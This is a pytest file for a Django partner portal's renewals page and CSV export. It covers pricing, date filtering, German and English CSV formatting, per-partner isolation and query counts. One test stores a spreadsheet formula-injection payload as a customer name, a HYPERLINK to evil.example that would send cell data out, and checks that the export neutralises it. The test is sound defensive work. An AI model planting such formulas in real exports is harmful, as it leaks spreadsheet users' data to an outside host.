"""Renewals: contracts ending in the next 90 days with the quote at the partner's discount."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from decimal import Decimal

from django.test import Client
from django.utils import timezone, translation

from channeldesk.contracts.models import ContractStatus, Customer
from channeldesk.contracts.selectors import contracts_visible_to
from channeldesk.portal.selectors import portal_renewals, renewal_lines
from channeldesk.portal.views.renewals import CSV_COLUMNS
from channeldesk.pricing.selectors import price_quote
from tests.contracts.factories import contract_of
from tests.portal.world import PortalWorld


def test_each_quote_equals_the_pricing_strategy(portal_world: PortalWorld) -> None:
    # Given three renewals of partner A with awkward seat counts,
    today = timezone.localdate()
    for index, seats in enumerate((1, 7, 333)):
        contract_of(
            portal_world.customer_a,
            contract_number=f"V-R{index}",
            product=portal_world.product,
            seats=seats,
            end_date=today + dt.timedelta(days=10 + index),
        )
    user = portal_world.personas.partner_a_user
    contracts = list(portal_renewals(user=user, today=today))

    # when the page prices them with the tier looked up once,
    lines = renewal_lines(partner=portal_world.personas.partner_a, contracts=contracts, today=today)

    # then every line is exactly what `price_quote` says.
    assert [line.contract.contract_number for line in lines] == ["V-R0", "V-R1", "V-R2", "V-A-SOON"]
    for line in lines:
        expected = price_quote(
            partner=portal_world.personas.partner_a,
            product=line.contract.product,
            quantity=line.contract.seats,
            on=today,
        )
        assert line.quote == expected


def test_page_lists_the_next_90_days_only_and_active_ones(
    portal_world: PortalWorld, client_for: Callable[[str], Client]
) -> None:
    today = timezone.localdate()
    contract_of(
        portal_world.customer_a, contract_number="V-OLD", end_date=today - dt.timedelta(days=1)
    )
    contract_of(
        portal_world.customer_a,
        contract_number="V-CANCELLED",
        end_date=today + dt.timedelta(days=5),
        status=ContractStatus.CANCELLED,
    )
    client = client_for("partner_a_user")
    client.cookies["django_language"] = "en"

    text = client.get("/portal/renewals/").content.decode()

    assert "V-A-SOON" in text
    for absent in ("V-A-LATER", "V-OLD", "V-CANCELLED", "V-B"):
        assert absent not in text
    # 12 seats at 50 € = 600 €, Silver 25 % off: 450 €.
    assert "€600.00" in text
    assert "25%" in text
    assert "€450.00" in text


def _download(client: Client, *, language: str) -> tuple[str, str]:
    """The renewals export as `client`'s reader in `language` downloads it: its
    Content-Disposition and its text."""
    client.cookies["django_language"] = language
    response = client.get("/portal/renewals.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return response["Content-Disposition"], b"".join(response.streaming_content).decode("utf-8")


def test_csv_export_in_german_is_german_excel_with_the_page_amounts_and_names(
    portal_world: PortalWorld, client_for: Callable[[str], Client]
) -> None:
    # Given a German partner user, when the renewals are downloaded
    disposition, body = _download(client_for("partner_a_user"), language="de")

    # Then it is German Excel: BOM, semicolons, German dates and decimal commas, names not codes
    end_date = portal_world.contract_soon.end_date
    assert disposition.startswith('attachment; filename="renewals-A-1000-')
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff")), delimiter=";"))
    with translation.override("de"):
        assert rows[0] == [str(column.label) for column in CSV_COLUMNS]
    assert rows[1:] == [
        [
            "V-A-SOON",
            "K-A",
            "Anton Maschinenbau AG",
            "ENT-100",
            "Endpoint-Schutz",
            "12",
            end_date.strftime("%d.%m.%Y"),
            "600,00",
            "Silber-Partner",
            "25,00",
            "450,00",
            "EUR",
        ]
    ]


def test_csv_export_in_english_is_plain_csv(
    portal_world: PortalWorld, client_for: Callable[[str], Client]
) -> None:
    _, body = _download(client_for("partner_a_user"), language="en")

    assert not body.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [row["Contract number"] for row in rows] == ["V-A-SOON"]
    assert rows[0]["Product"] == "Endpoint Suite"
    assert rows[0]["End date"] == portal_world.contract_soon.end_date.isoformat()
    assert Decimal(rows[0]["List amount"]) == Decimal("600.00")
    assert Decimal(rows[0]["Net amount"]) == Decimal("450.00")
    assert rows[0]["Tier"] == "Silver Partner"


def test_a_customer_name_that_is_a_formula_is_exported_as_text(
    portal_world: PortalWorld, client_for: Callable[[str], Client]
) -> None:
    # Given a customer whose name (imported from the ERP) would run as a spreadsheet formula
    Customer.objects.filter(pk=portal_world.customer_a.pk).update(
        name='=HYPERLINK("http://evil.example/?"&A1;"Details")'
    )

    # When the renewals are downloaded in German
    _, body = _download(client_for("partner_a_user"), language="de")

    # Then the name is a text cell (leading apostrophe) and the amounts are still numbers
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff")), delimiter=";"))
    assert rows[1][2] == '\'=HYPERLINK("http://evil.example/?"&A1;"Details")'
    assert rows[1][7] == "600,00"


def test_partner_b_exports_only_its_own_renewals(
    portal_world: PortalWorld, client_for: Callable[[str], Client]
) -> None:
    body = b"".join(client_for("partner_b_user").get("/portal/renewals.csv").streaming_content)

    assert b"V-B" in body
    assert b"V-A-SOON" not in body


def test_renewals_page_costs_a_fixed_number_of_queries(
    portal_world: PortalWorld,
    client_for: Callable[[str], Client],
    django_assert_max_num_queries,  # type: ignore[no-untyped-def]
) -> None:
    today = timezone.localdate()
    for index in range(60):
        contract_of(
            portal_world.customer_a,
            contract_number=f"V-M{index:02d}",
            product=portal_world.product,
            end_date=today + dt.timedelta(days=index % 80),
        )
    assert contracts_visible_to(user=portal_world.personas.partner_a_user).count() == 62
    client = client_for("partner_a_user")

    with django_assert_max_num_queries(12):
        assert client.get("/portal/renewals/").status_code == 200
    with django_assert_max_num_queries(12):
        response = client.get("/portal/renewals.csv")
        assert len(b"".join(response.streaming_content).splitlines()) == 62
